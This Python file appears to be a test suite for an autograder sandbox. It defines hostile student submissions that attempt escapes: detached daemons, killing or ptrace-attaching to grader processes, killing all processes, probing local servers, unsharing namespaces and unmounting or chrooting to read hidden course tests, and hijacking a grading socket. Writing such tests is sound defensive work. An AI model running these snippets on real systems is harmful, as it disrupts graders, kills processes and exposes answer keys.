"""Attacks that outlive the run, reach other processes, or try to break out of the sandbox."""

from functools import partial

from submission import ENDS_RUN, Effect, Submission, nothing

from submissions.reading import reads

KIND = "escape"
attack = partial(Submission, kind=KIND)

STAYS = Effect("leaves a process running", lambda seen: seen.alive)
CALLS = Effect("contacts another program", lambda seen: seen.called)
WRITES = Effect("writes behind the grader's back", lambda seen: bool(seen.places))

NAMED = '__import__("ctypes").CDLL(None).prctl(15, b"@COMM@", 0, 0, 0)'
DAEMON = f"""\
import ctypes, os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (1, 2, 13, 15):
            signal.signal(number, signal.SIG_IGN)
        ctypes.CDLL(None).prctl(1, 0)
        os.chdir("/")
        os.closerange(0, 256)
        {NAMED}
        time.sleep(900)
    os._exit(0)"""
PROGRAM = """\
import subprocess, sys
code = '__import__("ctypes").CDLL(None).prctl(15, b"@COMM@", 0, 0, 0); import time; time.sleep(900)'
subprocess.Popen([sys.executable, "-c", code], start_new_session=True, env={})"""
AT_EXIT = """\
import atexit
def last_words():
    open("@TMP@/@MARK@", "w").write("I was here")
    open("@COURSE@/@MARK@", "w").write("I was here")
atexit.register(last_words)"""
GRADERS = """\
import os, signal
from pathlib import Path
def words(pid):
    return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\\0", b" ")
def parent(pid):
    return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
def is_grader(pid):
    return any(word in words(pid) for word in (b"bin/nbgrader autograde", b"bin/instructor grade", b"-m nbjudge", b"bin/nbjudge grade"))
def graders():
    pid = os.getppid()
    while pid > 1 and is_grader(pid):
        yield pid
        pid = parent(pid)
"""
KILLS_GRADERS = GRADERS + "for pid in list(graders()):\n    os.kill(pid, signal.SIGKILL)"
STOPS_GRADERS = GRADERS + "for pid in list(graders()):\n    os.kill(pid, signal.SIGINT)"
KILLS_NEIGHBOURS = (
    GRADERS
    + """
mine = os.getppid()
for folder in Path("/proc").glob("[0-9]*"):
    try:
        if parent(folder.name) == mine and is_grader(mine) and int(folder.name) != os.getpid():
            os.kill(int(folder.name), signal.SIGKILL)
    except (OSError, ValueError):
        pass"""
)
KILLS_ALL = """\
import os, signal
try:
    inside = os.readlink("/proc/self/ns/pid") != "@PIDS@"  # else this would end the machine
except OSError:
    inside = False
if inside:
    os.kill(-1, signal.SIGKILL)
total = 1"""
TRACES = (
    GRADERS
    + """
import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
for pid in graders():
    done = libc.ptrace(16, pid, None, None)
    print("attached to the", "grader" if done == 0 else "nothing")
    if done == 0:
        time.sleep(0.1)
        libc.ptrace(17, pid, None, None)"""
)
TELEPHONE = """\
import socket
def call(kind, address):
    with socket.socket(kind) as out:
        out.settimeout(3)
        try:
            out.connect(address)
            out.sendall(b"@MARK@")
        except OSError as error:
            print(error)
call(socket.AF_INET, ("127.0.0.1", @PORT@))"""
ABSTRACT = TELEPHONE.replace('call(socket.AF_INET, ("127.0.0.1", @PORT@))', 'call(socket.AF_UNIX, "\\0@ADDRESS@")')
SERVERS = """\
import socket
from pathlib import Path
def listening():
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(name).read_text().splitlines()[1:] if Path(name).exists() else ():
            words = line.split()
            if words[3] == "0A":
                yield int(words[1].rpartition(":")[2], 16)
places = [(host, port) for host in ("localhost", socket.gethostname()) for port in (*listening(), @PORT@, *range(8000, 8100))]
for place in [*places, ("192.0.2.1", 80)]:
    try:
        with socket.create_connection(place, 0.2) as out:
            out.sendall(b"@MARK@")
    except OSError:
        pass"""
READ = """
for way in ("@COURSE@/source/ps1/one.ipynb", "/newroot@COURSE@/source/ps1/one.ipynb", "/oldroot@COURSE@/source/ps1/one.ipynb", "/covered/proc/self/root@COURSE@/source/ps1/one.ipynb", "/covered/proc/1/root@COURSE@/source/ps1/one.ipynb"):
    try:
        print(open(way).read())
    except OSError as error:
        print(error)"""
UNHIDES = (
    """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
alone = libc.unshare(0x10020000) == 0 or libc.unshare(0x00020000) == 0
if alone and libc.mount(b"none", b"/", None, ctypes.c_ulong(0x44000), None) == 0:  # else this would take the machine apart
    for line in reversed(open("/proc/self/mountinfo").read().splitlines()):
        place = line.split()[4]
        if place not in ("/", "/usr", "/proc"):
            libc.umount2(place.encode(), 2)"""
    + READ
)
ENTERS = (
    """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), 1, 2, 3):
    for kind in ("user", "mnt"):
        try:
            libc.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0)
        except OSError as error:
            print(error)"""
    + READ
)
CHANGES_ROOT = (
    """\
import os
try:
    os.makedirs("jail", exist_ok=True)
    top = os.open("/", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(top)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
except OSError as error:
    print(error)"""
    + READ
)
BINDS = (
    """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("view", exist_ok=True)
alone = libc.unshare(0x10020000) == 0 or libc.unshare(0x00020000) == 0
if alone and libc.mount(b"none", b"/", None, ctypes.c_ulong(0x44000), None) == 0:
    print(libc.mount(b"/", b"view", None, ctypes.c_ulong(0x1000), None))"""
    + READ
)
SHARED_MEMORY = """\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(@KEY@, 4096, 0o1666)"""
SERVER = """\
import glob, json, os, socket, struct
from pathlib import Path
def places():
    for line in open("/proc/net/unix"):
        yield line.split()[-1]
    for root in (os.environ.get("TMPDIR", "/tmp"), "/tmp", "/dev/shm", "@TMP@"):
        yield from glob.glob(root + "/grading-*/socket") + glob.glob(root + "/socket")
def say(out, message):
    data = json.dumps(message).encode()
    out.sendall(struct.pack("!IQ", 1, len(data)) + data)
source = "from pathlib import Path\\nPath('@TMP@/@MARK@').write_text('a judge ran this')"
steps = [{"source": source, "answer": None, "test": "x", "points": 1, "inside": False}]
job = {"steps": steps, "environment": {}, "limits": {}}
for place in {place for place in places() if place.endswith("/socket") and "/grading-" in place}:
    for wish in ({"role": "judge"}, "judge"):
        with socket.socket(socket.AF_UNIX) as out:
            out.settimeout(2)
            try:
                out.connect(place)
                say(out, wish)
                out.recv(1000)
                say(out, ["mark", job])
                print(out.recv(1000))
            except OSError as error:
                print(error)"""
SILENT_CALLER = (
    SERVER[: SERVER.index("source =")]
    + """
kept = []
for place in {place for place in places() if place.endswith("/socket") and "/grading-" in place}:
    for begin in (b"", b"\\xff" * 64):
        try:
            out = socket.socket(socket.AF_UNIX)
            out.connect(place)
            out.sendall(begin)
            kept.append(out)
        except OSError as error:
            print(error)"""
)
NO_SOCKET = """\
import glob, os, shutil
for folder in {os.environ.get("TMPDIR", "/nowhere"), *glob.glob("/dev/shm/grading-*"), *glob.glob("@TMP@/grading-*")}:
    if "grading-" in folder and os.path.exists(folder + "/socket") and os.environ.get("TMPDIR") == folder:
        shutil.rmtree(folder, ignore_errors=True)"""
DESCRIPTORS = """\
import os
for number in range(3, 200):
    try:
        os.write(number, b"\\xff" * 100)
    except OSError:
        pass
total = 1"""

GROUP = """\
import os, signal
for number in range({times}):
    try:
        os.kill(0, signal.{signal})
    except KeyboardInterrupt:
        pass"""
NO_GROUP = "under nbgrader, each kernel has its own process group"

SUBMISSIONS = [
    *(
        attack(
            f"the student's process group is {words}",
            own={"total": GROUP.format(signal=signal, times=times)},
            why_not=NO_GROUP,
            in_stock=False,
        )
        for words, signal, times in (("killed", "SIGKILL", 1), ("stopped", "SIGSTOP", 1), ("interrupted", "SIGINT", 50))
    ),
    attack("a process detaches itself from all others", own={"total": DAEMON}, effect=STAYS),
    attack("a program keeps running in the background", own={"total": PROGRAM}, effect=STAYS),
    attack("code runs when the kernel ends", own={"total": AT_EXIT}, effect=WRITES),
    attack("the grader is killed", own={"total": KILLS_GRADERS}, effect=ENDS_RUN, alone=True),
    attack("the grader is interrupted", own={"total": STOPS_GRADERS}, effect=ENDS_RUN, alone=True),
    attack(
        "the neighbours' processes are killed",
        own={"total": KILLS_NEIGHBOURS},
        why_not="nbgrader grades students one after the other, so there are no such processes",
        alone=True,
    ),
    attack(
        "all visible processes are killed",
        answers={"total": KILLS_ALL},
        earns=nothing("total_test"),
        why_not="not tried, because it would bring down the machine",
        alone=True,
    ),
    attack(
        "the grader is traced",
        own={"total": TRACES},
        effect=Effect("stops the grader", lambda seen: "attached to the grader" in seen.shown),
        alone=True,
    ),
    attack("another program on this machine is contacted", own={"total": TELEPHONE}, effect=CALLS),
    attack("all servers on this machine and one outside are contacted", own={"total": SERVERS}, effect=CALLS),
    attack("another program is contacted at an abstract socket address", own={"total": ABSTRACT}, effect=CALLS),
    attack("the mount that hides the course is removed", own={"total": UNHIDES}, effect=reads("tests")),
    attack("the namespace of another process is entered", own={"total": ENTERS}, effect=reads("tests")),
    attack("the root folder is changed and changed back", own={"total": CHANGES_ROOT}, effect=reads("tests")),
    attack("the root folder is mounted again", own={"total": BINDS}, effect=reads("tests")),
    attack(
        "a shared memory segment is left for others",
        own={"total": SHARED_MEMORY},
        effect=Effect("leaves the segment behind", lambda seen: seen.segment),
        alone=True,
    ),
    attack("a judge is asked to run something", own={"total": SERVER}, why_not="nbgrader has no judges"),
    attack(
        "the server that starts processes is kept waiting",
        own={"total": SILENT_CALLER},
        why_not="nbgrader has no such server",
    ),
    attack(
        "the path to the server's socket is removed", own={"total": NO_SOCKET}, why_not="nbgrader has no such server"
    ),
    attack(
        "data is written to all open files",
        answers={"total": DESCRIPTORS},
        earns=nothing("total_test"),
        why_not="the run would never end, because nbgrader waits for a kernel that has ended",
        in_stock=False,
    ),
]
